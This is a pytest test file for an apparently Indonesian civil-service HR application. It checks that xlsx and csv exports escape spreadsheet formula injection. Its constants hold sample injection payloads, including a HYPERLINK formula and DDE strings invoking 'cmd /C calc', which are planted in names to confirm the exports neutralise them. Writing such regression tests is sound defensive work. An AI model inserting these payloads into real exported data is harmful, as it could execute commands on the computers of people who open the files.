"""Formula injection (issue 19 item 5): names users type reach every xlsx and csv export as
text, never as a live formula (asn_kinerja.ekspor.aman_sel). Each export is read back."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from asn_kinerja.ekspor import aman_sel
from kinerja.laporan.services.rekap import rekap_hitung
from organisasi.models import Jabatan, UnitKerja
from pegawai.models import Pegawai
from tests.organisasi.factories import TugasJabatanFactory

pytestmark = pytest.mark.django_db

RUMUS = '=HYPERLINK("http://x"&A2,"Klik")'
RUMUS_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
RUMUS_PEGAWAI = "+1+cmd|' /C calc'!A0"
RUMUS_SEMUA = (RUMUS, RUMUS_UNIT, RUMUS_PEGAWAI)


@pytest.mark.parametrize(
    ("masuk", "keluar"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Analis", "Analis"), ("", ""),
        (-5, -5), (None, None), (1.5, 1.5), ("a=b", "a=b"),
    ],
)  # fmt: skip
def test_aman_sel(masuk, keluar):
    assert aman_sel(masuk) == keluar


@pytest.fixture
def nama_rumus(org_a):
    Jabatan.objects.filter(pk=org_a.j_staf_seksi.pk).update(nama=RUMUS)
    UnitKerja.objects.filter(pk=org_a.seksi.pk).update(nama=RUMUS_UNIT)
    UnitKerja.objects.filter(pk=org_a.bidang.pk).update(nama=RUMUS_UNIT)
    Pegawai.objects.filter(pk__in=[org_a.staf_seksi.pk, org_a.staf.pk]).update(nama=RUMUS_PEGAWAI)
    TugasJabatanFactory(jabatan=org_a.j_staf_seksi, volume_tahunan=1500, norma_waktu_menit=100)
    return org_a


def _sel_xlsx(isi: bytes) -> list:
    wb = load_workbook(io.BytesIO(isi))
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def _periksa_xlsx(isi: bytes) -> None:
    sel = _sel_xlsx(isi)
    assert not [c.coordinate for c in sel if c.data_type == "f"], "a formula cell"
    nilai = [c.value for c in sel]
    assert not [v for v in nilai if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]
    assert any(isinstance(v, str) and v.lstrip("'") in RUMUS_SEMUA for v in nilai)


def _periksa_csv(teks: str) -> None:
    sel = [v for row in csv.reader(io.StringIO(teks), delimiter=";") for v in row]
    assert not [v for v in sel if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(v.lstrip("'") in RUMUS_SEMUA for v in sel)


def test_ekspor_kebutuhan_pegawai(nama_rumus, client_as):
    c = client_as(nama_rumus.user_hr)
    resp = c.get("/organisasi/kebutuhan-pegawai/ekspor/", {"format": "xlsx"})
    assert resp.status_code == 200
    _periksa_xlsx(resp.content)
    assert "'" + RUMUS in [c.value for c in _sel_xlsx(resp.content)]
    resp = c.get("/organisasi/kebutuhan-pegawai/ekspor/", {"format": "csv"})
    teks = resp.content.decode("utf-8-sig")
    _periksa_csv(teks)
    assert '"\'=HYPERLINK(""http://x""&A2,""Klik"")"' in teks
    assert "1,5" in teks or "2" in teks  # numbers keep their decimal comma, unquoted


def test_ekspor_pegawai(nama_rumus, client_as):
    c = client_as(nama_rumus.user_hr)
    resp = c.get("/pegawai/ekspor/")
    assert resp.status_code == 200
    _periksa_xlsx(resp.content)
    resp = c.get("/pegawai/ekspor/", {"format": "csv"})
    _periksa_csv(resp.content.decode("utf-8-sig"))


def test_ekspor_rekap(nama_rumus, kinerja_a, hari_ini_februari, client_as):
    rekap_hitung(periode_penilaian=kinerja_a.jan)
    c = client_as(nama_rumus.user_hr)
    for url in ("/laporan/rekap/pegawai.xlsx", "/laporan/rekap/unit.xlsx"):
        resp = c.get(url, {"periode": kinerja_a.jan.pk})
        assert resp.status_code == 200, url
        _periksa_xlsx(resp.content)
    resp = c.get("/laporan/rekap/wilayah.xlsx")
    assert resp.status_code == 200
    assert not [x for x in _sel_xlsx(resp.content) if x.data_type == "f"]
